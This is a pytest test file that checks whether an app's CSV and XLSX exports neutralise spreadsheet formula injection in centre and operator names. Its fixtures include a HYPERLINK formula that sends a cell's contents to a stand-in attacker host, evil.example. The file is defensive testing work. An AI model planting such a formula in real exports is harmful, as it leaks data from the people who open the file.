"""Centres, operators and operators' IDs exported with names a spreadsheet would run as formulas:
never a live formula in the XLSX, a quote in front in the CSV, and imported again unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from degs.centres import importing, services
from degs.centres.choices import IdStatus
from degs.centres.models import Centre, Operator, OperatorId
from degs.core.tabular import read_table

LINK = '=HYPERLINK("http://evil.example/?d="&B2, "Details")'
PHONE_LIKE = "+91 sum"
MINUS = "-1+1 Kendra"
AT = "@SUM(A1)"


@pytest.fixture
def named(world, centres):  # type: ignore[no-untyped-def]
    services.operator_id_record(
        actor=None,
        operator=centres.operator_a1,
        id_type=centres.bc,
        status=IdStatus.REJECTED,
        applied_on=dt.date(2025, 1, 2),
        decided_on=dt.date(2025, 2, 3),
        remarks="x",
    )
    Centre.objects.filter(pk=centres.centre_a1.pk).update(name=LINK, address=MINUS)
    Centre.objects.filter(pk=centres.centre_a1b.pk).update(name=AT)
    Operator.objects.filter(pk=centres.operator_a1.pk).update(name=LINK)
    Operator.objects.filter(pk=centres.operator_a1b.pk).update(name=PHONE_LIKE)
    OperatorId.objects.filter(operator=centres.operator_a1).update(remarks=AT)
    return centres


KINDS = ["centres", "operators", "operator_ids"]


@pytest.mark.parametrize("kind", KINDS)
def test_xlsx_export_has_no_formula_and_keeps_the_text(world, named, kind) -> None:
    content, _type = importing.centres_export(
        user=world.csc_manager_a, kind=kind, fmt="xlsx", filters={}
    )
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert risky, "the export should carry the names set above"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    values = {c.value for c in cells}
    expected = {
        "centres": {LINK, MINUS, AT},
        "operators": {LINK, PHONE_LIKE},
        "operator_ids": {AT},
    }[kind]
    assert expected <= values


@pytest.mark.parametrize("kind", KINDS)
def test_csv_export_puts_a_quote_before_formula_text(world, named, kind) -> None:
    content, _type = importing.centres_export(
        user=world.csc_manager_a, kind=kind, fmt="csv", filters={}
    )
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    expected = {
        "centres": {LINK, MINUS, AT},
        "operators": {LINK, PHONE_LIKE},
        "operator_ids": {AT},
    }[kind]
    assert {"'" + text for text in expected} <= set(cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_escaped_export_imports_again_unchanged(world, named, fmt) -> None:
    for kind, visible in (("centres", 3), ("operators", 2), ("operator_ids", 2)):
        content, _type = importing.centres_export(
            user=world.csc_manager_a, kind=kind, fmt=fmt, filters={}
        )
        table = read_table(f"x.{fmt}", content)
        report = importing.CHECKERS[kind](actor=world.csc_manager_a, table=table)
        assert report.ok, (kind, report.errors)
        assert (report.to_create, report.to_update, report.unchanged) == (0, 0, visible), kind
    operators = read_table(
        f"x.{fmt}",
        importing.centres_export(user=world.csc_manager_a, kind="operators", fmt=fmt, filters={})[
            0
        ],
    )
    assert {r.values["name"] for r in operators.rows} >= {LINK}
